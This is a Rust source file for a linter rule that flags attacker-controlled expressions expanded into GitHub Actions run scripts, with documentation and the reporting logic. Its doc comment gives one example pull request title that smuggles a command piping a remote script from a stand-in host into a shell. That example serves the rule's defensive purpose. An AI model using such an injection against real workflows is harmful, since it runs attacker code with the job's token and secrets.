use super::expr::Trust;
use super::workflow::Workflow;
use crate::context::YamlFileContext;
use crate::declare_rule;
use crate::rule::{Reporter, Rule};

declare_rule! {
    /// ## What it does
    /// Flags a `${{ }}` expression inside a `run:` script (or the script of
    /// `actions/github-script` and similar actions) whose value anyone can
    /// write: issue and pull request titles and bodies, comments, review
    /// bodies, commit messages and authors, the head branch of a pull
    /// request (`github.head_ref`, `github.event.pull_request.head.ref`)…
    ///
    /// ## Why is this bad?
    /// Expressions are expanded into the script's text before the shell (or
    /// Node.js) runs it. A pull request titled `` a"; curl evil.sh | sh; echo " ``
    /// becomes code that runs with the job's token and secrets. This is the
    /// most common way GitHub Actions workflows are compromised.
    ///
    /// Pass the value through `env:` and read it as a shell variable (quoted):
    /// the shell then treats it as data. Values written by people with
    /// write access (`inputs.*`, step outputs, branch names, and the names
    /// and text of labels, milestones and releases, which only triage or
    /// write users can set) are reported by `expression-in-run` instead.
    ///
    /// ## Example
    /// ```yaml
    /// - run: echo "Checking ${{ github.event.pull_request.title }}"
    /// ```
    ///
    /// Use instead:
    /// ```yaml
    /// - run: echo "Checking $TITLE"
    ///   env:
    ///     TITLE: ${{ github.event.pull_request.title }}
    /// ```
    ///
    /// ## References
    /// - [Security hardening for GitHub Actions: script injections](https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections)
    /// - [zizmor: template-injection](https://docs.zizmor.sh/audits/#template-injection)
    pub struct TemplateInjection {
        id: "template-injection",
        severity: Error,
        domains: [GithubActions],
        summary: "Attacker-controlled `${{ }}` expression expanded into a script",
    }
}

impl Rule for TemplateInjection {
    fn check_yaml(&self, cx: &YamlFileContext<'_>, report: &mut Reporter<'_>) {
        let Some(workflow) = Workflow::of(cx) else { return };
        for found in workflow.script_expressions() {
            if let Some(context) = found.contexts.iter().find(|(_, t)| *t == Trust::Attacker).map(|(c, _)| c) {
                let what = if context.to_ascii_lowercase().starts_with("env.") {
                    format!("`{context}` holds text anyone can write")
                } else {
                    format!("`{context}` can be written by anyone")
                };
                report.report(
                    found.span,
                    format!(
                        "{what} and is expanded into the {}; pass it through `env:` and use the variable instead",
                        found.sink
                    ),
                );
            }
        }
    }
}
